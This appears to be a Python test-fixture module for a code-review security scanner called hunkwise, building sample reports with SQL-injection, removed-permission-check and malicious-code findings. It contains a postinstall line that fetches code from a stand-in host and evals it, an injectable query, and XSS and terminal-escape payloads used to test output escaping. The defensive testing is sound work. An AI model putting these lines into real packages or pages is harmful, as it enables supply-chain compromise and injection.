"""Sample reports: none, one, several kinds of finding, hostile strings, thirty."""

from hunkwise.change.model import Skipped
from hunkwise.evidence import Evidence, Step
from hunkwise.explain.model import Counterfactual, ExcerptLine, Explanation, Leaning, Neighbour, Report
from hunkwise.judge.model import Dropped, DroppedReason, FileRisk, Finding, Severity, Verdict, Versions
from hunkwise.version import REPORT_VERSION

VERSIONS = Versions(program="0.1.0", model="m-3f9a2c", features="v1", signals="s-20", settings="c0ffee12")
BASE, HEAD = "1f0c5a7d9e3b4c6a8d2e1f0b9c8a7d6e5f4a3b2c", "9b8a7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b"


def verdict(
    *,
    findings: tuple[Finding, ...] = (),
    dropped: tuple[Dropped, ...] = (),
    skipped: tuple[Skipped, ...] = (),
    notes: tuple[str, ...] = (),
    risk: float = 0.02,
    files: int = 4,
) -> Verdict:
    """A verdict over `findings`, with settled numbers."""
    return Verdict(
        change="main...pr",
        base=BASE,
        head=HEAD,
        risk=risk,
        flagged=risk >= 0.41,
        threshold=0.41,
        budget=1.0,
        findings=findings,
        dropped=dropped,
        places=tuple(FileRisk(found.path, found.line, found.risk) for found in findings),
        skipped=skipped,
        notes=notes,
        files=files,
        lines=files * 28,
        seconds=0.412,
        versions=VERSIONS,
    )


def report(explanations: tuple[Explanation, ...] = (), **rest: object) -> Report:
    """A report over `explanations`; `rest` goes to `verdict`."""
    return Report(REPORT_VERSION, verdict(findings=tuple(e.finding for e in explanations), **rest), explanations)  # type: ignore[arg-type]


def injection(severity: Severity = "critical") -> Explanation:
    """A value that comes in from a request and ends in a query, with the whole way and a certain patch."""
    bad = '    rows = db.execute("select * from orders where customer = \'" + name + "\'")'
    steps = (
        Step(13, '    name = request.args["customer"]', "comes from the request"),
        Step(14, bad, "is joined into the query"),
    )
    evidence = Evidence(
        source="signal:sql-concatenation",
        kind="flow",
        unit="shop/orders.py:find_orders",
        path="shop/orders.py",
        side="after",
        lines=(14, 13),
        strength=0.92,
        facts={"sink": "db.execute", "source": "request.args"},
        steps=steps,
    )
    finding = Finding(
        fingerprint="hw1:6d1f0a52c3b94e7f",
        path="shop/orders.py",
        side="after",
        line=13,
        end=14,
        lines=(14, 13),
        unit="shop/orders.py:find_orders",
        name="find_orders",
        language="python",
        risk=0.93,
        severity=severity,
        category="sql-injection",
        title="Query built from a request",
        cwe="CWE-89",
        tactic="",
        evidence=(evidence,),
        rule="sql-concatenation",
    )
    good = '    rows = db.execute("select * from orders where customer = ?", (name,))'
    return Explanation(
        finding=finding,
        cause="`db.execute` is given a query built from `request.args`; the value comes in on line 13 and ends on line 14.",
        why="A query that is joined from text can be made to read or change other rows. The database can't tell the two apart.",
        link="https://cwe.mitre.org/data/definitions/89.html",
        confidence="high: risk 0.93, threshold 0.41, a rule and the model agree",
        leaned_on=(
            Leaning("after", 14, bad, 2.31, ("execute", "+ name +")),
            Leaning("after", 13, '    name = request.args["customer"]', 0.87, ("request.args",)),
            Leaning("after", 15, "    return render(rows)", -0.14),
        ),
        steps=steps,
        nearest=(
            Neighbour("F-0012", "shop-api: cart/query.py", "Cart look-up joins the id into SQL", "CWE-89", "high", 0.91),
            Neighbour("F-0033", "billing: invoices.py", "Invoice search by concatenation", "CWE-89", "critical", 0.84),
        ),
        counterfactual=Counterfactual((13, 14), "after", 0.93, 0.11, "Without lines 13-14 the risk falls from 0.93 to 0.11."),
        remedy="Hand the value to the database as a parameter.",
        patch=f"--- a/shop/orders.py\n+++ b/shop/orders.py\n@@ -14,1 +14,1 @@\n-{bad}\n+{good}\n",
        excerpt=(
            ExcerptLine(" ", 11, '@app.get("/orders")', False),
            ExcerptLine("+", 12, "def find_orders(request):", False),
            ExcerptLine("+", 13, '    name = request.args["customer"]', True),
            ExcerptLine("+", 14, bad, True),
            ExcerptLine("+", 15, "    return render(rows)", False),
        ),
    )


def removed_guard() -> Explanation:
    """A permission check that was there before and is gone after."""
    finding = Finding(
        fingerprint="hw1:aa10b3d2e4f59687",
        path="admin/users.ts",
        side="before",
        line=42,
        end=44,
        lines=(42, 43, 44),
        unit="admin/users.ts:removeUser",
        name="removeUser",
        language="typescript",
        risk=0.71,
        severity="high",
        category="removed-guard",
        title="Permission check removed",
        cwe="CWE-862",
        tactic="",
        evidence=(
            Evidence("signal:removed-permission-check", "guard", "admin/users.ts:removeUser", "admin/users.ts", "before", (42,), 0.8),
            Evidence("head:change", "head", "admin/users.ts:removeUser", "admin/users.ts", "after", (41, 42), 0.66),
        ),
        rule="removed-permission-check",
    )
    return Explanation(
        finding=finding,
        cause="The check `requireRole(actor, 'admin')` stood before `store.deleteUser` and is gone.",
        why="Whoever reaches this function can now delete any user.",
        link="https://cwe.mitre.org/data/definitions/862.html",
        confidence="medium: risk 0.71, threshold 0.41, a rule alone says so",
        leaned_on=(Leaning("before", 42, "  if (!requireRole(actor, 'admin')) {", 1.52, ("requireRole",)),),
        steps=(),
        nearest=(),
        counterfactual=Counterfactual(
            (42, 43, 44), "before", 0.71, 0.05, "Had lines 42-44 of the base stayed the risk falls from 0.71 to 0.05."
        ),
        remedy="Put the check back, or show in the caller that it is made there.",
        patch="",
        excerpt=(
            ExcerptLine(" ", 41, "export async function removeUser(actor: User, id: string) {", False),
            ExcerptLine("-", 42, "  if (!requireRole(actor, 'admin')) {", True),
            ExcerptLine("-", 43, "    throw new Forbidden();", True),
            ExcerptLine("-", 44, "  }", True),
            ExcerptLine(" ", 42, "  await store.deleteUser(id);", False),
            ExcerptLine(" ", 43, "}", False),
        ),
    )


def malicious() -> Explanation:
    """An install script that fetches something and runs it."""
    bad = '    "postinstall": "node -e \\"fetch(\'https://example.test/a\').then(r=>r.text()).then(eval)\\""'
    evidence = Evidence("signal:install-script-fetches", "manifest", "package.json", "package.json", "after", (9,), 0.97)
    finding = Finding(
        fingerprint="hw1:0102030405060708",
        path="package.json",
        side="after",
        line=9,
        end=9,
        lines=(9,),
        unit="package.json",
        name="",
        language="json",
        risk=0.98,
        severity="critical",
        category="malicious-code",
        title="Install script fetches and runs code",
        cwe="CWE-506",
        tactic="T1195.002",
        evidence=(evidence,),
        rule="install-script-fetches",
    )
    return Explanation(
        finding=finding,
        cause="The script `postinstall` fetches `https://example.test/a` and hands the answer to `eval`.",
        why="It runs on every machine that installs the package, before anyone reads it.",
        link="https://attack.mitre.org/techniques/T1195/002/",
        confidence="high: risk 0.98, threshold 0.41, a rule alone says so",
        leaned_on=(Leaning("after", 9, bad, 3.02, ("postinstall", "eval")),),
        steps=(),
        nearest=(Neighbour("F-0051", "left-trim: package.json", "postinstall pulls a second stage", "CWE-506", "critical", 0.88),),
        counterfactual=Counterfactual((9,), "after", 0.98, 0.03, "Without line 9 the risk falls from 0.98 to 0.03."),
        remedy="Take the script out and find out who added it.",
        patch="",
        excerpt=(
            ExcerptLine(" ", 2, '  "name": "example-widgets",', False),
            ExcerptLine(" ", 8, '  "scripts": {', False),
            ExcerptLine("+", 9, bad, True),
            ExcerptLine(" ", 10, "  }", False),
        ),
    )


def dropped(reason: DroppedReason, detail: str = "", fingerprint: str = "hw1:dddd000011112222") -> Dropped:
    """A finding that isn't told."""
    found = removed_guard().finding
    return Dropped(
        Finding(
            fingerprint=fingerprint,
            path="lib/cache.py",
            side="after",
            line=7,
            end=7,
            lines=(7,),
            unit="lib/cache.py:load",
            name="load",
            language="python",
            risk=0.38,
            severity="medium",
            category="unsafe-deserialisation",
            title="Bytes are unpickled",
            cwe="CWE-502",
            tactic="",
            evidence=found.evidence,
            rule="unsafe-deserialisation",
        ),
        reason,
        detail,
    )


SKIPPED = (
    Skipped("assets/logo.png", "binary"),
    Skipped("assets/map.bin", "binary"),
    Skipped("dist/bundle.js", "too-large", "4.2 MB, the limit is 1 MB"),
    Skipped("", "context-not-at-hand", "a patch shows only the lines around its hunks"),
)
DROPPED = (
    dropped("suppressed", "accepted by A. Reviewer until 2031-01-01: cache is written by us alone"),
    dropped("below-budget", "risk 0.38 is under 0.41", "hw1:dddd000011113333"),
    dropped("standing", fingerprint="hw1:dddd000011114444"),
)
NOTES = ("The suppression of hw1:77aa in .hunkwise/suppressions.toml has expired on 2030-01-01", "This change edits .hunkwise/config.toml")


def none() -> Report:
    """Everything was examined and nothing was found."""
    return report()


def one() -> Report:
    """One finding, nothing else."""
    return report((injection(),), risk=0.93)


def several() -> Report:
    """Each kind of finding, dropped ones, skipped things and notes."""
    told = (malicious(), injection(), removed_guard())
    return report(told, dropped=DROPPED, skipped=SKIPPED, notes=NOTES, risk=0.98, files=12)


def partial() -> Report:
    """Nothing was found, but not everything was examined."""
    return report(skipped=SKIPPED)


def unexamined() -> Report:
    """Nothing could be examined."""
    return report(skipped=SKIPPED[:2], risk=0.0, files=0)


ATTACK = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> ![x](https://example.test/x.png) "
    "[link=https://example.test]a[/link] [/x] @everyone #1"
)
HIDDEN = "\x1b[2J\x1b]8;;https://example.test\x07 \u202e txet \u2066 \u200b \ud800 \x9b31m \r\n\t# heading\n\n---\n``` ```` ~~~ </pre></td>"


def hostile(text: str = ATTACK + HIDDEN + "x" * 3000) -> Report:
    """`text` in every field that can come from a repository."""
    base = injection()
    found = Finding(
        fingerprint=text,
        path=text,
        side="after",
        line=13,
        end=14,
        lines=(14, 13),
        unit=text,
        name=text,
        language=text,
        risk=0.93,
        severity="critical",
        category=text,
        title=text,
        cwe=text,
        tactic=text,
        evidence=(Evidence("signal:" + text, "flow", text, text, "after", (14,), 0.9, facts={text: text}, steps=(Step(1, text, text),)),),
        rule=text,
    )
    explanation = Explanation(
        finding=found,
        cause=text,
        why=text,
        link=text,
        confidence=text,
        leaned_on=(Leaning("after", 14, text, 1.0, (text, "x")),),
        steps=(Step(13, text, text), Step(14, text, text)),
        nearest=(Neighbour(text, text, text, text, text, 0.5),),
        counterfactual=Counterfactual((13,), "after", 0.9, 0.1, text),
        remedy=text,
        patch=f"--- a/{text}\n+++ b/{text}\n@@ -14,1 +14,1 @@\n-{text}\n+{text}\n",
        excerpt=(ExcerptLine("+", 14, text, True), ExcerptLine("-", 13, text, False), *base.excerpt),
    )
    return Report(
        text,
        Verdict(
            change=text,
            base=text,
            head=text,
            risk=0.93,
            flagged=True,
            threshold=0.41,
            budget=1.0,
            findings=(found,),
            dropped=(Dropped(found, "suppressed", text), Dropped(found, "standing", text)),
            places=(FileRisk(text, 3, 0.9),),
            skipped=(Skipped(text, text, text), Skipped("", text)),
            notes=(text,),
            files=1,
            lines=2,
            seconds=0.1,
            versions=Versions(text, text, text, text, text),
        ),
        (explanation,),
    )


def thirty() -> Report:
    """Thirty findings: three kinds, ten times."""
    return report((malicious(), injection(), removed_guard()) * 10, dropped=DROPPED, skipped=SKIPPED, notes=NOTES, risk=0.98, files=61)


SAMPLES = {"none": none, "one": one, "several": several, "partial": partial, "unexamined": unexamined}
